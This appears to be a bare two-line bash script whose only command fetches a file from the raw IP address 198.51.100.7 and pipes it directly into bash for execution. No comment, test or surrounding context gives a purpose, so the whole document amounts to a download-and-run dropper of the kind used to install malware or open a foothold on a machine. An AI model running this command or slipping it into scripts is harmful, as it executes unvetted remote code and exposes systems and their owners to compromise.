#!/bin/bash
curl http://198.51.100.7/x | bash
